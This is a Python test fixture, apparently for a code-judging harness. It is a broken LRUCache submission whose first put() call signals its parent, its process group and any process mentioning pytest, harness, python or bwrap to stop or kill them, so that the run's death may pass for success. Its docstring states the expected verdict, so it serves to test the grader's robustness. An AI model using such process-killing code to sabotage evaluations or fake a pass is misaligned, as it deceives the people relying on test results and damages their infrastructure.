"""Attack class 1/4 (fake a pass, damage): signal the processes around the worker.

On the first put() it sends SIGSTOP, then SIGTERM, then SIGKILL to its parent (os.getppid(), when
it is not 0 or 1 and not itself), SIGTERM/SIGINT to every other pid it can see in /proc whose
cmdline mentions pytest, drill, harness, python or bwrap, and SIGINT to its process group leader
(os.getpgrp(), unless that is its own pid). Unsandboxed, this stops or kills the suite runner,
whose death could be mistaken for "the run ended". Never signals -1 or 0.

Correct verdict: runtime_error. In its own PID namespace the worker sees no judge process
(getppid() is 0 or bwrap's init, which ignores these signals), and whatever happens, the first
get() then raises AttributeError (`self.store` was never set). If a signal did reach the runner,
the judge must still not report a pass: a run that did not finish is not accepted.
"""

import os
import signal

_done = [False]


def _signal_everyone() -> None:
    me = os.getpid()
    targets = []
    parent = os.getppid()
    if parent not in (0, 1, me):
        targets += [(parent, signal.SIGSTOP), (parent, signal.SIGCONT), (parent, signal.SIGTERM), (parent, signal.SIGKILL)]
    try:
        leader = os.getpgrp()
        if leader not in (0, 1, me):
            targets.append((leader, signal.SIGINT))
    except OSError:
        pass
    try:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in (0, 1, me):
                continue
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    cmdline = f.read().replace(b"\0", b" ").lower()
            except OSError:
                continue
            if any(word in cmdline for word in (b"pytest", b"drill", b"harness", b"python", b"bwrap")):
                targets += [(int(name), signal.SIGTERM), (int(name), signal.SIGINT)]
    except OSError:
        pass
    for pid, sig in targets:
        if pid > 1 and pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass


class LRUCache:
    def __init__(self, capacity: int) -> None:
        if capacity < 1:
            raise ValueError("capacity must be at least 1")
        self.capacity = capacity
        self.data = {}

    def get(self, key):
        return self.store.get(key, -1)  # wrong: AttributeError, there is no self.store

    def put(self, key, value) -> None:
        if not _done[0]:
            _done[0] = True
            _signal_everyone()
        self.data[key] = value
